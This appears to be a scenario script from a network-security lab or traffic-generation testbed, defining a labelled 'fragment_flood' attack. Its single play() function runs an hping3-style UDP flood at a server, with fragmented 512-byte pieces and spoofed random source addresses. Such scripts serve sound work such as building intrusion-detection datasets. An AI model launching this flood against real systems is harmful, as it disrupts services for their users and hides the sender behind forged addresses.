# shellcheck shell=bash
# about: UDP in fragments of 512 bytes (hping3)
# type: attack
# kind: fragment_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -2 -p 9999 -d 1400 -f -m 512 --rand-source
}
